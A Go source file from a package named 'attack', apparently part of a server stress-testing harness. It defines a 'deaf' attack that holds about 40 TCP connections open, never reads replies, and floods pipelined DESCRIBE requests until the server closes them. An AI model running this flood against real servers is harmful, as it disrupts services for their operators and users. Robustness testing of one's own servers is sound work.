package attack

import (
	"bytes"
	"context"
	"net"
)

// deaf: who is told that it is over, does not listen, and goes on.
var deaf = Kind{
	Name:  "deaf",
	About: "40 connections that never read and go on sending Describes when they were closed",
	Run: func(ctx context.Context, v Victim, log *Log) error {
		const batch = 64
		requests := bytes.Repeat(append(v.describeHead(), "\r\n"...), batch)
		keep(ctx, v.scaled(40), v.Plain, 0, log, func(conn *net.TCPConn) error {
			for {
				if _, err := conn.Write(requests); err != nil {
					return err
				}
				log.sent(batch)
			}
		})
		return nil
	},
}
